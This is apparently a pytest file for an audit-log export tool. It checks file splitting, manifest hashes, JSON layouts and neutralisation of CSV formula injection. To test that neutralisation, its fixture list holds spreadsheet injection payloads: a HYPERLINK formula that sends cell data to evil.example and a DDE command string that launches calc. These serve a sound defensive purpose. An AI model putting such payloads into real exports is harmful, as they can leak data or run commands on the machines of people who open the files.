"""Exports: numbered files within --max-events, a manifest that checks out, safe CSV, platform JSON."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
from pathlib import Path

import polars as pl
import pytest

from auditreports.cli import main
from auditreports.errors import UsageError
from auditreports.export import export
from auditreports.export.platform import CONVERSATION_CSV_COLUMNS, WORKSPACE_CSV_COLUMNS
from auditreports.schema import conform

T0 = dt.datetime(2026, 7, 1, 23, 58, tzinfo=dt.UTC)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\tleading tab", "-2+3"]


def _workspace_raw(i: int, reason: str | None) -> str:
    return json.dumps(
        {
            "id": f"evt_{i:03d}",
            "sequence": i,
            "occurred_at": "…",
            "action": "data.conversations_exported",
            "details": {"reason": reason},
        },
        separators=(",", ":"),
    )


def make_events(n: int = 25) -> pl.DataFrame:
    rows = []
    for i in range(n):
        conv = i % 5 == 0
        reason = HOSTILE[i % len(HOSTILE)] if i < 10 else f"note {i}"
        rows.append(
            {
                "event_id": f"evt_{i:03d}",
                "seq": i,
                "timestamp": T0 + dt.timedelta(minutes=i),
                "event_type": "conversation.note_added" if conv else "data.export",
                "source_action": "note_added" if conv else "data.conversations_exported",
                "category": "conversation" if conv else "data_access",
                "outcome": "success",
                "actor_type": "user",
                "actor_id": "usr_9",
                "actor_name": "Dana Lee",
                "conversation_id": "conv/1" if conv else None,
                "channel": "web" if conv else None,
                "subject_ids": [] if conv else ["cus_1", "=cus_2"],
                "reason": reason,
                "before": '{"assignee":null}' if conv else None,
                "record_count": None if conv else -i,
                "source": "conversation" if conv else "workspace",
                # conversation events as if ingested from CSV (raw is a CSV line), workspace from JSON
                "raw": f"evt_{i:03d},conv/1,note_added" if conv else _workspace_raw(i, reason),
            }
        )
    return conform(pl.DataFrame(rows, schema_overrides={"subject_ids": pl.List(pl.String)})).collect()


def write_store(root: Path, events: pl.DataFrame) -> Path:
    day = events.with_columns(pl.col("timestamp").dt.date().alias("_d"))
    for i, ((d,), part) in enumerate(day.group_by("_d", maintain_order=True)):
        p = root / "events" / f"event_date={d.isoformat()}"
        p.mkdir(parents=True, exist_ok=True)
        part.drop("_d").write_parquet(p / f"part-{i:016x}.parquet")
    return root


@pytest.fixture
def store(tmp_path: Path) -> Path:
    return write_store(tmp_path / "store", make_events())


def test_files_split_at_max_events_and_the_manifest_checks_out(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    m = export(store, out, format="ndjson", max_events=8, since="2026-07-01")
    doc = json.loads((out / "manifest.json").read_text())
    assert doc["total_events"] == 25 and doc["format"] == "ndjson" and doc["max_events"] == 8
    assert doc["filters"] == {"since": "2026-07-01T00:00:00Z"}
    names = [f["name"] for f in doc["files"]]
    assert names == [
        "workspace-0001.ndjson",
        "workspace-0002.ndjson",
        "workspace-0003.ndjson",
        "conversation-0001.ndjson",
    ]
    assert [f["events"] for f in doc["files"]] == [8, 8, 4, 5]
    assert sorted(p.name for p in out.iterdir()) == sorted([*names, "manifest.json"])
    for f in doc["files"]:
        data = (out / f["name"]).read_bytes()
        assert f["sha256"] == hashlib.sha256(data).hexdigest() and f["bytes"] == len(data)
        assert len(data.splitlines()) == f["events"] <= 8
    assert m.total_events == sum(f.events for f in m.files)


def test_json_is_the_original_record_or_rebuilt_in_the_platform_layout(store: Path, tmp_path: Path) -> None:
    events = make_events()
    export(store, tmp_path / "out", format="json")
    originals = events.filter(pl.col("source") == "workspace")["raw"].to_list()
    # the original records, byte for byte (so their hash chain still verifies), as one JSON array
    assert (tmp_path / "out" / "workspace-0001.json").read_text() == "[\n" + ",\n".join(originals) + "\n]\n"
    conv = json.loads((tmp_path / "out" / "conversation-0001.json").read_text())
    first = conv[0]
    assert list(first) == [
        "event_id",
        "conversation_id",
        "event_type",
        "author",
        "timestamp",
        "before",
        "after",
        "reason",
        "ip_address",
        "user_agent",
        "channel",
        "customer_id",
    ]
    assert first["author"] == {"kind": "user", "id": "usr_9", "name": "Dana Lee"}
    assert first["timestamp"] == "2026-07-01T23:58:00.000Z" and first["before"] == {"assignee": None}
    assert first["reason"] == HOSTILE[0]  # JSON keeps the text as it is: only CSV is neutralised


def test_csv_neutralises_hostile_text_and_keeps_numbers(store: Path, tmp_path: Path) -> None:
    export(store, tmp_path / "out", format="csv")
    text = (tmp_path / "out" / "workspace-0001.csv").read_text()
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == WORKSPACE_CSV_COLUMNS
    by_col = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    reasons = [r["details.reason"] for r in by_col]
    for cell in reasons:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
    assert "'+cmd|' /C calc'!A0" in reasons and "'\tleading tab" in reasons
    assert "'-2+3" in reasons and "'@SUM(1+1)" in reasons
    # numbers stay numbers: a negative record_count is a bare number, not a quoted or prefixed string
    assert [r["details.record_count"] for r in by_col][:3] == ["-1", "-2", "-3"]
    assert "\n-1," not in text and ",-1," in text
    assert by_col[0]["details.subject_ids"] == '["cus_1","=cus_2"]'  # JSON array text, starts with [
    conv = list(csv.reader(io.StringIO((tmp_path / "out" / "conversation-0001.csv").read_text())))
    assert tuple(conv[0]) == CONVERSATION_CSV_COLUMNS
    assert conv[1][CONVERSATION_CSV_COLUMNS.index("reason")] == "'" + HOSTILE[0]


def test_per_conversation_export_is_named_after_the_conversation(store: Path, tmp_path: Path) -> None:
    m = export(store, tmp_path / "out", format="json", conversation_id="conv/1")
    assert [f.name for f in m.files] == ["conv_1-conversation-0001.json"]
    assert m.total_events == 5 and m.filters == {"conversation_id": ["conv/1"]}


def test_empty_result_writes_a_manifest_with_no_files(store: Path, tmp_path: Path) -> None:
    m = export(store, tmp_path / "out", format="csv", author="nobody")
    assert m.total_events == 0 and m.files == []
    assert json.loads((tmp_path / "out" / "manifest.json").read_text())["files"] == []


def test_caller_mistakes_are_usage_errors(store: Path, tmp_path: Path) -> None:
    (tmp_path / "used").mkdir()
    (tmp_path / "used" / "old.json").write_text("[]")
    with pytest.raises(UsageError, match="not an empty directory"):
        export(store, tmp_path / "used")
    with pytest.raises(UsageError, match="unknown export format"):
        export(store, tmp_path / "x", format="xlsx")
    with pytest.raises(UsageError, match="at least 1"):
        export(store, tmp_path / "y", max_events=0)


def test_cli_export(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "cli"
    args = ["export", "--store", str(store), "--format", "ocsf", "--out", str(out), "--max-events", "10"]
    assert main(args) == 0
    doc = json.loads((out / "manifest.json").read_text())
    assert [f["events"] for f in doc["files"]] == [10, 10, 5] and doc["ocsf_version"] == "1.3.0"
    assert main(args) == 2  # out is no longer empty
